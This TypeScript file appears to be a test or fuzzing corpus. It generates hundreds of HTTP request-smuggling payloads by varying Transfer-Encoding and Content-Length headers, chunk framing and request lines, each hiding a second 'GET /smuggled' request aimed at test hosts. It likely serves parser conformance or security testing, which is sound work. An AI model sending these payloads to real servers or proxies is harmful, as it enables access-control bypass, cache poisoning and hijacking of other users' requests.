/** A hidden request: whoever takes it for one has read the bytes before it differently. */
const HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: edge.test\r\nX-Ignore: x\r\n\r\n";
const HOST = "Host: edge.test\r\n";

/** Whitespace and controls that some parsers skip, trim or end a line at. */
const ODD = [0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0x80, 0x85, 0xa0, 0xff].map((code) =>
  String.fromCharCode(code),
);

/** Ways to write a transfer coding that not everybody takes for one. */
const CODINGS: readonly string[] = [
  ...ODD.flatMap((odd) => [
    `Transfer-Encoding${odd}: chunked`,
    `Transfer-Encoding:${odd}chunked`,
    `Transfer-Encoding: chunked${odd}`,
    `${odd}Transfer-Encoding: chunked`,
    `Transfer-Encoding: ${odd}chunked${odd}`,
    `X: x${odd}Transfer-Encoding: chunked`,
    `X: x\r${odd}Transfer-Encoding: chunked`,
    `X: x${odd}\nTransfer-Encoding: chunked`,
    `Transfer-Encoding: chunked${odd}X: x`,
    `Transfer-Encoding: chunked\r${odd}X: x`,
    `Transfer${odd}Encoding: chunked`,
  ]),
  ...["xchunked", "chunkedx", "identity", "chunked, identity", "identity, chunked", "chunked, chunked", "chunked;q=1"],
  ...[
    '"chunked"',
    "CHUNKED",
    "cHuNkEd",
    "cow",
    "gzip",
    "chunked,",
    ",chunked",
    "",
    "chunk",
    "\\x63hunked",
    "gzip, chunked",
  ].map((value) => value),
].map((line) => (line.includes(":") ? line : `Transfer-Encoding: ${line}`));

const DOUBLE_CODINGS = [
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\r\n : chunked",
  "Foo: bar\r\n Transfer-Encoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
];

/** Ways to write a length. */
const LENGTHS = [
  ...[
    "+6",
    "-6",
    "0x6",
    "06",
    "6,6",
    "6, 6",
    "6, 0",
    "0, 6",
    "6 ",
    " 6",
    "6;x",
    "6.0",
    "6e0",
    "",
    "six",
    "\t6",
    "6\t",
    "\x0b6",
  ],
  ...[
    "18446744073709551622",
    "99999999999999999999999",
    "6\r\nContent-Length: 0",
    "0\r\nContent-Length: 6",
    "6\r\n 0",
    "\u0666",
  ],
];

/** Chunks that end elsewhere for some. */
const CHUNKS = [
  ...[
    "5;x=\n",
    "5 ",
    " 5",
    "+5",
    "0x5",
    "05",
    "5\t",
    "5\r",
    "5\n",
    "5;",
    '5;a="\r\n',
    "00000000000000000005",
    "fffffffffffffffff5",
  ],
  ...["-5", "5_", "5,", "g", "", "5;\0", "5\x0b"],
].map((size) => `${size}\r\nhello\r\n0\r\n\r\n`);

const BROKEN_CHUNKS = [
  "5\nhello\n0\n\n",
  "5\r\nhelloXX0\r\n\r\n",
  "5\r\nhello\r0\r\n\r\n",
  "5\r\nhello\n0\r\n\r\n",
  "5\r\nhello\r\n0\r\n\n",
  "5\r\nhello\r\n0\n\r\n",
  `5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n`,
  `5\r\nhello\r\n0\r\nHost: other.test\r\n\r\n`,
  `5\r\nhello\r\n0\r\n GET /smuggled HTTP/1.1\r\n\r\n`,
];

const LINES = [
  `POST /echo HTTP/1.1\n${HOST}Content-Length: 0\n\n`,
  `POST /echo HTTP/1.1\r\n${HOST}\rContent-Length: 0\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}: x\r\nContent-Length: 0\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}Content-Length: 0\r\n\n`,
  `POST /echo HTTP/1.2\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
  `POST /echo HTTP/1.0\r\n${HOST}Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}Expect: 100-continue\r\nContent-Length: 5\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}Expect: x\r\nContent-Length: 5\r\n\r\nhello`,
  `POST /echo HTTP/1.1\r\n${HOST}Connection: Content-Length\r\nContent-Length: 5\r\n\r\nhello`,
  `POST /echo HTTP/1.1\r\n${HOST}Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: 0\r\n\r\n`,
  `POST /echo HTTP/1.1\r\n${HOST}Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 0\r\n\r\n`,
  `GET /echo HTTP/1.1\r\n${HOST}Content-Length: ${HIDDEN.length}\r\n\r\n`,
  `HEAD /echo HTTP/1.1\r\n${HOST}Content-Length: ${HIDDEN.length}\r\n\r\n`,
  `OPTIONS /echo HTTP/1.1\r\n${HOST}Content-Length: ${HIDDEN.length}\r\n\r\n`,
  `GET /echo HTTP/1.1\r\n${HOST}Host: other.test\r\n\r\n`,
  `GET /echo?\r\nX: HTTP/1.1\r\n${HOST}\r\n`,
  `\r\n\r\nGET /echo HTTP/1.1\r\n${HOST}\r\n`,
  ` GET /echo HTTP/1.1\r\n${HOST}\r\n`,
  `GET  /echo HTTP/1.1\r\n${HOST}\r\n`,
  `GET /echo HTTP/1.1 \r\n${HOST}\r\n`,
  `GET\t/echo\tHTTP/1.1\r\n${HOST}\r\n`,
  `GET /echo\r\n`,
];

/** By length in front and by chunks behind, and the other way round. */
function bothFramings(coding: string): string[] {
  const chunked = `0\r\n\r\n${HIDDEN}`;
  const chunk = `${HIDDEN.length.toString(16)}\r\n`;
  return [
    `POST /echo HTTP/1.1\r\n${HOST}Content-Length: ${chunked.length}\r\n${coding}\r\n\r\n${chunked}`,
    `POST /echo HTTP/1.1\r\n${HOST}${coding}\r\nContent-Length: ${chunk.length}\r\n\r\n${chunk}${HIDDEN}\r\n0\r\n\r\n`,
  ];
}

/** Byte sequences that have smuggled requests past one server or another. */
export const SMUGGLED: readonly string[] = [
  ...[...CODINGS, ...DOUBLE_CODINGS].flatMap(bothFramings),
  ...LENGTHS.map((length) => `POST /echo HTTP/1.1\r\n${HOST}Content-Length: ${length}\r\n\r\n12345\n${HIDDEN}`),
  ...[...CHUNKS, ...BROKEN_CHUNKS].map(
    (body) => `POST /echo HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n${body}${HIDDEN}`,
  ),
  ...LINES.map((line) => `${line}${HIDDEN}`),
];
